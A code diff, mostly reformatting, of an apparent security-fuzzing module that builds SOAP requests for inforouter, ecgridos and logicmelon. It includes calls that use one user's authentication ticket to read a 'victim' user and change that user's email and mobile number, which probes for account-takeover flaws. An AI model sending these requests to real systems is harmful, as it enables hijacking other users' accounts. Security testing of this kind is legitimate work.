@@ -13,20 +13,39 @@ export interface Identities {
 
 export type SoapVersion = '1.1' | '1.2'
 
-export interface SoapCall { api: 'inforouter' | 'ecgridos' | 'logicmelon'; path: string; namespace: string; operation: string; params: Params }
-export interface FormCall { path: string; operation: string; params: Record<string, string> }
-export interface JsonCall { method: 'PUT' | 'GET'; path: string; apiKey: string; body?: unknown }
+export interface SoapCall {
+  api: 'inforouter' | 'ecgridos' | 'logicmelon'
+  path: string
+  namespace: string
+  operation: string
+  params: Params
+}
+export interface FormCall {
+  path: string
+  operation: string
+  params: Record<string, string>
+}
+export interface JsonCall {
+  method: 'PUT' | 'GET'
+  path: string
+  apiKey: string
+  body?: unknown
+}
 
 const ENVELOPE: Record<SoapVersion, string> = { '1.1': 'http://schemas.xmlsoap.org/soap/envelope/', '1.2': 'http://www.w3.org/2003/05/soap-envelope' }
 const escape = (t: string) => t.replace(/[&<>"]/g, (c) => ({ '&': '&amp;', '<': '&lt;', '>': '&gt;', '"': '&quot;' })[c]!)
 
 function xmlParams(params: Params): string {
-  return Object.entries(params).map(([k, v]) => `<${k}>${typeof v === 'string' ? escape(v) : xmlParams(v)}</${k}>`).join('')
+  return Object.entries(params)
+    .map(([k, v]) => `<${k}>${typeof v === 'string' ? escape(v) : xmlParams(v)}</${k}>`)
+    .join('')
 }
 
 export function envelope(version: SoapVersion, call: SoapCall): string {
-  return `<?xml version="1.0" encoding="utf-8"?><soap:Envelope xmlns:soap="${ENVELOPE[version]}" xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance">` +
+  return (
+    `<?xml version="1.0" encoding="utf-8"?><soap:Envelope xmlns:soap="${ENVELOPE[version]}" xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance">` +
     `<soap:Body><${call.operation} xmlns="${call.namespace}">${xmlParams(call.params)}</${call.operation}></soap:Body></soap:Envelope>`
+  )
 }
 
 export function soapHeaders(version: SoapVersion, call: SoapCall): Record<string, string> {
@@ -46,15 +65,25 @@ export function infoRouterCalls(id: Identities['inforouter']): Array<{ operation
     { operation: 'AuthenticateUser', params: { UID: id.userName, PWD: id.password } },
     { operation: 'GetUser', params: { authenticationTicket: id.ticket, UserName: id.victim } },
     { operation: 'UpdateUserEmail', params: { authenticationTicket: id.ticket, UserName: id.victim, NewEmailAddress: 'fuzz@example.com' } },
-    { operation: 'UpdateUserContactInfo', params: { authenticationTicket: id.ticket, userName: id.victim, emailAddress: 'fuzz@example.com', mobileNumber: '15550001111' } },
+    {
+      operation: 'UpdateUserContactInfo',
+      params: { authenticationTicket: id.ticket, userName: id.victim, emailAddress: 'fuzz@example.com', mobileNumber: '15550001111' },
+    },
     { operation: 'UpdateUserEmail', params: { authenticationTicket: id.ticket, UserName: id.userName, NewEmailAddress: 'self@example.com' } },
     { operation: 'LogOut', params: { AuthenticationTicket: '00000000-0000-0000-0000-000000000000' } },
   ]
 }
 
 const cuser = (userId: string, organisationId: string): Params => ({
-  UserID: userId, OrganisationID: organisationId, FirstName: 'Fuzz', LastName: 'Er', Email: 'fuzz@example.com', Username: 'fuzzed',
-  UserRoleID: '2', Mobile: '07700900000', BBDCopySentMessages: 'true',
+  UserID: userId,
+  OrganisationID: organisationId,
+  FirstName: 'Fuzz',
+  LastName: 'Er',
+  Email: 'fuzz@example.com',
+  Username: 'fuzzed',
+  UserRoleID: '2',
+  Mobile: '07700900000',
+  BBDCopySentMessages: 'true',
 })
 
 export function soapCalls(ids: Identities): SoapCall[] {
